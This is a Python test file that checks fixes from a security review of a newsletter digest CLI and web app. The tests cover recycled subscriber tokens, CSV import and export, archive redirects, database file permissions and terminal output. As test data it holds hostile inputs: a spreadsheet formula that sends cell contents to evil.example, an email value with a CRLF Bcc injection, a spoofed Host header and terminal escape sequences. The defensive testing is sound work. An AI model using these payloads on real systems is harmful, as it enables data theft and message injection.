"""The security review's findings, each against the real CLI, `digest web` and a real SMTP server.

Each test failed before its fix (run with PYTHONPATH pointing at the code of `integration`
from before the fix to see it): the description says what it found then.
"""

from __future__ import annotations

import csv
import io
import os
import re
import sqlite3
from collections.abc import Callable, Iterator
from email import message_from_bytes
from pathlib import Path

import pytest
from conftest import REAL_SEED, Handler, SeedWriter, SmtpServer, StartServer, run_cli
from test_web_e2e import PUBLIC, WebServer, local_path, one_click_urls, subscribers

pytestmark = pytest.mark.slow


@pytest.fixture
def start_web(tmp_path: Path) -> Iterator[Callable[[dict[str, str]], WebServer]]:
    started: list[WebServer] = []

    def start(env: dict[str, str]) -> WebServer:
        started.append(WebServer(env, tmp_path))
        return started[-1]

    yield start
    for server in started:
        server.stop()


def reader_env(tmp_path: Path, port: int, **extra: str) -> dict[str, str]:
    return {
        "DIGEST_SEEDS_DIR": str(tmp_path / "seeds"),
        "DIGEST_STATE_DIR": str(tmp_path / "state"),
        "DIGEST_ARCHIVE_DIR": str(tmp_path / "archive"),
        "DIGEST_OUTBOX_DIR": str(tmp_path / "outbox"),
        "DIGEST_SMTP_HOST": "127.0.0.1",
        "DIGEST_SMTP_PORT": str(port),
        "DIGEST_SMTP_SECURITY": "none",
        "DIGEST_PUBLIC_URL": PUBLIC,
        "DIGEST_WORKERS": "1",
        **extra,
    }


def preferences_urls(handler: Handler) -> dict[str, str]:
    """Recipient -> the preferences link in the plain-text part of their message."""
    found: dict[str, str] = {}
    for received in handler.messages:
        text = received.content.decode("ascii", "replace").replace("=\r\n", "")
        links = re.findall(re.escape(PUBLIC) + r"/preferences/[A-Za-z0-9_.=-]+", text)
        found[received.rcpt_tos[0]] = links[0].replace("=3D", "=")
    return found


def test_a_removed_readers_old_links_do_nothing_to_the_reader_added_next(
    tmp_path: Path,
    seeds: SeedWriter,
    plain_server: StartServer,
    start_web: Callable[[dict[str, str]], WebServer],
) -> None:
    # before: SQLite gave mallory's deleted row id to victim, and the token was the id alone
    handler = Handler()
    env = reader_env(tmp_path, plain_server(handler))
    assert run_cli("subscribers", "add", "mallory@example.net", env=env).code == 0
    seeds("first.txt", REAL_SEED.read_text(encoding="utf-8"))
    assert run_cli("run", env=env).code == 0
    unsubscribe = one_click_urls(handler)["mallory@example.net"]
    preferences = preferences_urls(handler)["mallory@example.net"]
    assert run_cli("subscribers", "remove", "mallory@example.net", env=env).code == 0
    assert run_cli("subscribers", "add", "victim@example.net", env=env).code == 0
    web = start_web(env)
    status, _, page = web.request("GET", local_path(preferences))
    assert status == 404 and "This link does not work" in page
    assert "victim" not in page
    form = "sections=&include=&exclude=&max=1&every=daily&day=&at=&timezone=&action=save"
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    assert web.request("POST", local_path(preferences), form.encode(), headers)[0] == 404
    assert web.request("POST", local_path(unsubscribe), b"List-Unsubscribe=One-Click")[0] == 404
    assert subscribers(env) == {"victim@example.net": "active"}
    listed = run_cli("subscribers", "list", "--json", env=env).out
    assert '"max": ""' in listed  # victim's preferences untouched


BAD_ROWS = [
    ("Ann Other <first@example.org>", "not a bare address"),
    ("jörg@example.org", "not an ASCII address"),
    ("carol@example.org\r\nBcc: dave@example.org", "line break"),
    ("nul\x00@example.org", "control character"),
    ('"quoted@evil"@example.org', "not an email address"),
    ("two@example.org, three@example.org", "not a bare address"),
    ("first@example.org (Ann)", "not a bare address"),
]
GOOD = ["first@example.org", "second@example.org", "x+news@sub.example.org"]


def test_a_csv_with_bad_addresses_imports_the_good_rows_and_every_run_reaches_each_once(
    tmp_path: Path, seeds: SeedWriter, smtp_server: SmtpServer
) -> None:
    # before: every row was taken; the non-ASCII one failed every later run for every reader
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["email", "name"])
    rows = [(GOOD[0], "Ann"), *((bad, "") for bad, _ in BAD_ROWS), *((g, "") for g in GOOD[1:])]
    writer.writerows(rows)
    (tmp_path / "readers.csv").write_text(buffer.getvalue(), encoding="utf-8")
    env = smtp_server.env(
        DIGEST_SEEDS_DIR=str(tmp_path / "seeds"),
        DIGEST_STATE_DIR=str(tmp_path / "state"),
        DIGEST_WORKERS="1",
    )
    result = run_cli("subscribers", "import", str(tmp_path / "readers.csv"), env=env)
    assert result.code == 1
    assert "imported 3 subscriber(s), skipped 7 row(s)" in result.out
    lines = result.err.splitlines()
    start = 3  # each row named by the line it starts on (one cell holds a line break)
    for bad, why in BAD_ROWS:
        assert any(f"readers.csv:{start}: " in line and why in line for line in lines), why
        start += 1 + bad.count("\n")
    assert sorted(subscribers(env)) == sorted(GOOD)
    for number, seed in enumerate(("first.txt", "second.txt"), start=1):
        smtp_server.messages.clear()
        body = (
            REAL_SEED.read_text(encoding="utf-8")
            if number == 1
            else "Port news\n\n" + ("The harbour reopened on Monday after the storm. " * 30)
        )
        seeds(seed, body)
        result = run_cli("run", env=env)
        assert result.code == 0, result.err
        got = sorted(r for m in smtp_server.messages for r in m.rcpt_tos)
        assert got == sorted(GOOD), f"run {number}"
    to = {message_from_bytes(m.content)["To"] for m in smtp_server.messages}
    assert "Ann <first@example.org>" in to  # the reader's name, when known, in To:


def test_export_neutralises_cells_a_spreadsheet_would_run_and_import_reads_them_back(
    tmp_path: Path,
) -> None:
    # before: `=HYPERLINK(...)` was written as it is
    env = {"DIGEST_STATE_DIR": str(tmp_path / "state")}
    name = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    assert (
        run_cli("subscribers", "add", "--name", name, "--", "-dash@example.org", env=env).code == 0
    )
    assert (
        run_cli("subscribers", "add", "plain@example.org", "--include", "+1,@home", env=env).code
        == 0
    )
    exported = run_cli("subscribers", "export", env=env)
    assert exported.code == 0
    cells = [cell for row in csv.reader(io.StringIO(exported.out)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert "'" + name in cells and "'-dash@example.org" in cells and "'+1,@home" in cells
    (tmp_path / "out.csv").write_text(exported.out, encoding="utf-8")
    again = {"DIGEST_STATE_DIR": str(tmp_path / "again")}
    assert run_cli("subscribers", "import", str(tmp_path / "out.csv"), env=again).code == 0
    assert run_cli("subscribers", "export", env=again).out == exported.out


def test_the_archive_redirect_never_names_the_requests_host(
    tmp_path: Path, start_web: Callable[[dict[str, str]], WebServer]
) -> None:
    # before: 308 to http://evil.example/archive/
    web = start_web({"DIGEST_STATE_DIR": str(tmp_path / "state")})
    for path in ("/archive", "//archive/"):
        status, headers, _ = web.request("GET", path, headers={"Host": "evil.example"})
        assert "evil.example" not in headers.get("Location", "")
    status, headers, _ = web.request("GET", "/archive", headers={"Host": "evil.example"})
    assert status == 308 and headers["Location"] == "archive/"


def test_the_public_archive_lists_each_edition_once_and_reader_copies_need_their_link(
    tmp_path: Path,
    seeds: SeedWriter,
    plain_server: StartServer,
    start_web: Callable[[dict[str, str]], WebServer],
) -> None:
    # before: four identical titles after one run, one per reader's filters, all public
    handler = Handler()
    env = reader_env(tmp_path, plain_server(handler))
    filters = {"a@example.net": "", "b@example.net": "harbour", "c@example.net": "storm"}
    filters["d@example.net"] = "nothing-matches-this"
    for reader, words in filters.items():
        extra = ["--exclude", words] if words else []
        assert run_cli("subscribers", "add", reader, *extra, env=env).code == 0
    seeds("first.txt", REAL_SEED.read_text(encoding="utf-8"))
    seeds("harbour.txt", "Harbour news\n\n" + "The harbour reopened after the storm. " * 30)
    assert run_cli("run", env=env).code == 0
    web = start_web(env)
    _, _, index = web.request("GET", "/archive/")
    listed = re.findall(r'href="(digest-[^"]+\.html)"', index)
    assert len(listed) == 1
    status, _, edition = web.request("GET", f"/archive/{listed[0]}")
    assert status == 200 and "Harbour news" in edition
    copies = {}
    for received in handler.messages:
        html = received.content.decode("ascii", "replace").replace("=\r\n", "")
        found = re.findall(re.escape(PUBLIC) + r"/copy/[A-Za-z0-9_.=-]+", html)
        copies[received.rcpt_tos[0]] = local_path(found[0].replace("=3D", "="))
    status, _, copy = web.request("GET", copies["b@example.net"])
    assert status == 200 and "Harbour news" not in copy
    assert "/unsubscribe/" not in copy and "/preferences/" not in copy
    assert web.request("GET", copies["b@example.net"][:-3] + "xyz")[0] == 404
    for name in os.listdir(tmp_path / "archive" / "readers"):  # never under /archive/
        assert web.request("GET", f"/archive/{name}")[0] == 404
        assert web.request("GET", f"/archive/readers/{name}")[0] == 404


def test_the_state_database_and_its_wal_and_shm_are_readable_by_the_owner_only(
    tmp_path: Path,
) -> None:
    # before: 0644 (the umask's)
    os.umask(0o022)
    env = {"DIGEST_STATE_DIR": str(tmp_path / "state")}
    assert run_cli("subscribers", "add", "a@example.net", env=env).code == 0
    db = tmp_path / "state" / "state.sqlite3"
    assert db.stat().st_mode & 0o777 == 0o600
    conn = sqlite3.connect(db)  # SQLite gives -wal and -shm the database file's mode
    try:
        conn.execute("PRAGMA journal_mode=WAL")
        conn.execute("INSERT INTO meta (key, value) VALUES ('x', 'y')")
        conn.commit()
        for suffix in ("-wal", "-shm"):
            assert Path(f"{db}{suffix}").stat().st_mode & 0o777 == 0o600
    finally:
        conn.close()
    db.chmod(0o644)  # a database from before the fix is made private on the next open
    assert run_cli("subscribers", "list", env=env).code == 0
    assert run_cli("subscribers", "pause", "a@example.net", env=env).code == 0
    assert db.stat().st_mode & 0o777 == 0o600


def test_control_characters_never_reach_the_operators_terminal(tmp_path: Path) -> None:
    env = {"DIGEST_STATE_DIR": str(tmp_path / "state")}
    name = "Eve\x1b]0;pwned\x07\x1b[2J"
    assert run_cli("subscribers", "add", "eve@example.net", "--name", name, env=env).code == 0
    listed = run_cli("subscribers", "list", env=env).out
    assert "\x1b" not in listed and "\x07" not in listed
    assert "Eve]0;pwned[2J" in listed
